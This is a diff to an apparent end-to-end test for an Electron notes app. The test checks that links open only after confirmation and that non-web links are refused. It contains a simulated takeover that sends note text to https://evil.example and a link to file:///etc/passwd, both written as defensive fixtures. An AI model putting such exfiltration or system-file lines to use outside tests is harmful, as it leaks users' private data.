@@ -144,41 +144,57 @@ test('notes: the three panes, searching, finding, deleting', async () => {
   await ana.openNote('Garden plan');
 });
 
-test('links: the whole address is shown and asked about; only pages and mail are opened', async () => {
-  // What the system would be given is kept instead: no browser is to open here.
-  await anas.app.evaluate(({ shell }) => {
-    const opened: string[] = [];
-    Object.assign(globalThis, { opened });
-    shell.openExternal = (url: string) => (opened.push(url), Promise.resolve());
+test('links: the system asks with the whole address, Enter says no; only pages and mail are opened', async () => {
+  // The system's box is answered for the person, and what it would be given is kept: no browser is to open here.
+  await anas.app.evaluate(({ dialog, shell }) => {
+    const said = { opened: [] as string[], asked: [] as string[], answered: 0, answer: 1 };
+    Object.assign(globalThis, { said });
+    shell.openExternal = (url: string) => (said.opened.push(url), Promise.resolve());
+    Object.assign(dialog, {
+      showMessageBox: (_over: unknown, { detail, defaultId, buttons }: Electron.MessageBoxOptions) => {
+        said.asked.push(`${detail?.split('\n')[0] ?? ''} ${buttons?.[defaultId ?? 0] ?? ''}`);
+        const response = said.answer;
+        return new Promise((resolve) => setTimeout(() => (said.answered++, resolve({ response })), 100));
+      },
+    });
   });
-  const opened = () => anas.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened);
+  type Said = { opened: string[]; asked: string[]; answered: number; answer: number };
+  const said = () => anas.app.evaluate(() => (globalThis as unknown as { said: Said }).said);
+  const answer = (next: number) =>
+    anas.app.evaluate((_electron, value) => {
+      (globalThis as unknown as { said: Said }).said.answer = value;
+    }, next);
   const link = ana.page.locator('.cm-link', { hasText: 'almanac' });
   await ana.page.getByRole('textbox', { name: 'Title' }).focus();
   await link.click();
-  await expect(ana.page.getByTestId('link-address')).toHaveText('https://example.org/almanac');
-  await look(anas, 'link');
-  expect(await opened(), 'not before it was asked').toEqual([]);
-  await button(ana.page, 'Open in browser').click();
-  await expect.poll(opened).toEqual(['https://example.org/almanac']);
+  await expect.poll(async () => (await said()).asked).toEqual(['https://example.org/almanac Cancel']);
+  const answered = async () => (await said()).answered;
+  await expect.poll(answered).toBe(1);
+  await answer(0);
   await ana.page.locator('.cm-table .cm-link', { hasText: 'Carrots' }).click();
-  await expect(ana.page.getByTestId('link-address')).toHaveText('https://example.org/carrots');
-  await press('Escape');
+  await expect
+    .poll(async () => (await said()).opened, 'what was not wanted did not open')
+    .toEqual(['https://example.org/carrots']);
   // On the line that is edited a click places the caret; with Ctrl it asks.
+  await answer(1);
   await ana.typeAfter('A plan for the year', '');
-  await ana.page.locator('.cm-link', { hasText: 'almanac' }).first().click();
-  await expect(ana.page.getByRole('dialog')).toHaveCount(0);
-  await ana.page
-    .locator('.cm-link', { hasText: 'almanac' })
-    .first()
-    .click({ modifiers: ['Control'] });
-  await expect(ana.page.getByTestId('link-address')).toBeVisible();
-  await press('Escape');
+  await link.first().click();
+  await link.first().click({ modifiers: ['Control'] });
+  await expect.poll(answered).toBe(3);
+  // A page that was taken over asks no more than a person can answer, and opens nothing.
+  await ana.page.evaluate(async () => {
+    const { cove } = window as unknown as { cove: { call(name: string, input: unknown): Promise<unknown> } };
+    const secret = encodeURIComponent(document.querySelector('.cm-content')?.textContent?.slice(0, 200) ?? '');
+    const ask = () => cove.call('links.open', { address: `https://evil.example/?note=${secret}` });
+    await Promise.all([ask(), ask(), ask()]);
+  });
+  expect((await said()).asked).toHaveLength(4);
   await ana.type('\n[settings](file:///etc/passwd)\n');
   await ana.page.locator('.cm-link', { hasText: 'settings' }).click();
   await expect(ana.page.getByRole('dialog')).toContainText('Cove does not open this');
   await look(anas, 'link refused');
   await press('Escape');
-  expect(await opened()).toHaveLength(1);
+  expect((await said()).opened).toHaveLength(1);
   // Out again: later pictures are of a note as people write them.
   await ana.text.focus();
   for (const keys of ['Control+End', 'Shift+ArrowUp', 'Shift+ArrowUp', 'Backspace']) await press(keys);
